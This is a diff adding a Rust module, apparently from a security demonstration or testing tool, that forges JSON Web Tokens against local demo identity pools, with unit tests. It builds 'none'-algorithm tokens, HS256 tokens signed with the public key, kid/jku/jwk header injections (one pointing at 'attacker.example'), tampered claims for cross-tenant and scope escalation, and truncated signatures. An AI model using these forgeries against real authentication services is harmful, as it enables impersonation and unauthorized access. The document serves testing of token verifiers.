@@ -1,0 +1,179 @@
+//! Forges tokens: pure text, from what the server has told of the real one.
+
+use serde_json::Value;
+
+use super::{attacks::Bait, base64url::encode, claims::Members};
+
+/// What there is to forge from.
+#[derive(Clone, Debug, PartialEq)]
+pub(super) struct Material {
+    /// The access token's header, as the server read it.
+    pub(super) header: Members,
+    /// Its claims.
+    pub(super) claims: Members,
+    /// The tokens themselves.
+    pub(super) access: String,
+    pub(super) id: Option<String>,
+    pub(super) refresh: Option<String>,
+    /// The public half of a key that we made just now.
+    pub(super) own_key: Value,
+}
+
+/// Who signs.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Signer {
+    /// Nobody.
+    Nobody,
+    /// Anyone, with the pool's public key as if it were a secret.
+    PublicKey,
+    /// We, with a key of our own.
+    Own,
+}
+
+/// A forged token.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(super) enum Draft {
+    /// As it is to be sent.
+    Whole(String),
+    /// Still to be signed.
+    Unsigned(String, Signer),
+}
+
+/// Two companies of the demonstration: whoever is of the one claims to be of the other.
+const POOLS: [&str; 2] = ["eu-local-1_BetaCo1", "eu-local-1_AcmeCorp1"];
+
+impl Material {
+    /// The issuer of another company.
+    pub(super) fn other_issuer(&self) -> String {
+        let own = self.claims.get("iss").and_then(Value::as_str).unwrap_or_default();
+        let (base, pool) = own.rsplit_once('/').unwrap_or_default();
+        let other = POOLS.into_iter().find(|other| *other != pool).unwrap_or_default();
+        format!("{base}/{other}")
+    }
+}
+
+/// What an attack sends; nothing if there is no token of the kind it needs.
+pub(super) fn draft(bait: &Bait, material: &Material) -> Option<Draft> {
+    Some(match bait {
+        Bait::Header(change, signer) => {
+            let mut header = material.header.clone();
+            change(&mut header, material);
+            let text = to_be_signed(header, material.claims.clone());
+            match signer {
+                Signer::Nobody => Draft::Whole(signed(&text, "")),
+                Signer::PublicKey | Signer::Own => Draft::Unsigned(text, *signer),
+            }
+        }
+        Bait::Claims(change) => {
+            let mut claims = material.claims.clone();
+            change(&mut claims, material);
+            let (_, signature) = material.access.rsplit_once('.')?;
+            Draft::Whole(signed(&to_be_signed(material.header.clone(), claims), signature))
+        }
+        Bait::Cut => {
+            let (text, signature) = material.access.rsplit_once('.')?;
+            // Four letters are three bytes: what is left is well written.
+            let half = signature.len() / 8 * 4;
+            Draft::Whole(signed(text, signature.get(..half)?))
+        }
+        Bait::IdToken => Draft::Whole(material.id.clone()?),
+        Bait::RefreshToken => Draft::Whole(material.refresh.clone()?),
+    })
+}
+
+/// A token in its compact form (RFC 7515 §7.1).
+pub(super) fn signed(text: &str, signature: &str) -> String {
+    format!("{text}.{signature}")
+}
+
+fn to_be_signed(header: Members, claims: Members) -> String {
+    let part = |members| encode(Value::Object(members).to_string().as_bytes());
+    format!("{}.{}", part(header), part(claims))
+}
+
+#[cfg(test)]
+pub(super) mod tests {
+    use serde_json::json;
+
+    use super::*;
+    use crate::pages::tokens::attacks::ATTACKS;
+
+    pub(crate) fn material() -> Material {
+        let members = |value: Value| value.as_object().cloned().unwrap();
+        Material {
+            header: members(json!({ "alg": "RS256", "kid": "k1" })),
+            claims: members(json!({
+                "exp": 1_000, "iss": "http://localhost:8080/eu-local-1_AcmeCorp1", "scope": "openid",
+            })),
+            access: "aGVhZA.Y2xhaW1z.c2lnbmF0dXJlc2lnbmF0dXJl".into(),
+            id: Some("id.of.somebody".into()),
+            refresh: Some("opaque".into()),
+            own_key: json!({ "kty": "EC" }),
+        }
+    }
+
+    fn drafted(id: &str) -> Draft {
+        let attack = ATTACKS.iter().find(|attack| attack.id == id).unwrap();
+        draft(&attack.bait, &material()).unwrap()
+    }
+
+    fn begins(draft: &Draft, header: &Value) -> bool {
+        let (Draft::Whole(text) | Draft::Unsigned(text, _)) = draft;
+        text.starts_with(&format!("{}.", encode(header.to_string().as_bytes())))
+    }
+
+    /// T4a: a token without a signature ends in a dot, and its header names no key.
+    #[test]
+    fn an_unsigned_token_ends_in_a_dot() {
+        let Draft::Whole(text) = drafted("none") else { panic!("nobody signs it") };
+        assert!(text.starts_with("eyJhbGciOiJub25lIn0.") && text.ends_with('.'), "{text}");
+    }
+
+    /// T4a: keys that the token names or brings sign it indeed, so that only a verifier that takes none from there refuses it.
+    #[test]
+    fn what_brings_its_own_key_is_signed_with_it() {
+        for (id, header) in [
+            ("kid", json!({ "alg": "ES256", "kid": "a-key-of-ours" })),
+            (
+                "jku",
+                json!({ "alg": "ES256", "jku": "https://attacker.example/jwks.json", "kid": "k1" }),
+            ),
+            ("jwk", json!({ "alg": "ES256", "jwk": { "kty": "EC" }, "kid": "k1" })),
+        ] {
+            let draft = drafted(id);
+            assert!(matches!(draft, Draft::Unsigned(_, Signer::Own)), "{id}");
+            assert!(begins(&draft, &header), "{id}: {draft:?}");
+        }
+        assert!(matches!(drafted("hs256"), Draft::Unsigned(_, Signer::PublicKey)));
+        assert!(begins(&drafted("hs256"), &json!({ "alg": "HS256", "kid": "k1" })));
+    }
+
+    /// T4a: changed claims stand under the header and the signature of the token that they were.
+    #[test]
+    fn changed_claims_keep_the_old_signature() {
+        for id in ["scopes", "company", "expiry"] {
+            let Draft::Whole(text) = drafted(id) else { panic!("{id}: nobody signs it") };
+            assert!(text.ends_with(".c2lnbmF0dXJlc2lnbmF0dXJl"), "{id}");
+            assert!(begins(&Draft::Whole(text), &json!({ "alg": "RS256", "kid": "k1" })), "{id}");
+        }
+    }
+
+    #[test]
+    fn half_a_signature_is_well_written() {
+        assert_eq!(drafted("cut"), Draft::Whole("aGVhZA.Y2xhaW1z.c2lnbmF0dXJl".into()));
+    }
+
+    #[test]
+    fn what_is_not_there_cannot_be_sent() {
+        let material = Material { id: None, refresh: None, ..material() };
+        assert_eq!(draft(&Bait::IdToken, &material), None);
+        assert_eq!(draft(&Bait::RefreshToken, &material), None);
+    }
+
+    #[test]
+    fn whoever_is_of_betaco_claims_to_be_of_acme() {
+        let mut material = material();
+        material.claims.insert("iss".into(), "https://x/eu-local-1_BetaCo1".into());
+        assert_eq!(material.other_issuer(), "https://x/eu-local-1_AcmeCorp1");
+    }
+}
